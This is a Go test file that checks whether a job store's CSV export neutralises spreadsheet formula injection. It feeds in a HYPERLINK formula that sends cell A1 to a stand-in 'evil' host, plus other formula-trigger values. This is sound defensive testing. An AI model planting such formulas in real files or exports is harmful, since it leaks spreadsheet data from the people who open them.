package jobs

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"
)

// A cell a spreadsheet would evaluate (leading =, +, -, @, tab or CR)
// must not reach Excel or LibreOffice as is.
// Recipe names, slot names, step names and error text are user- or
// device-controlled.
func TestCSVNeutralisesFormulas(t *testing.T) {
	s := newStore(t)
	a := realisticAttempt(0, "1f2e")
	a.Recipe = `=HYPERLINK("http://evil/?"&A1,"click")`
	a.Slot = "+A1"
	a.Station = "@SUM(1+1)"
	a.Steps[0].Name = "-2+3"
	record(t, s, a, Fail)
	var buf bytes.Buffer
	if _, err := s.Export(context.Background(), &buf, CSV, Filter{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, cell := range rows[1] {
		if cell != "" && bytes.ContainsRune([]byte("=+-@\t\r"), rune(cell[0])) {
			t.Errorf("column %s starts with %q: a spreadsheet evaluates %q", CSVHeader[i], cell[0], cell)
		}
	}
}
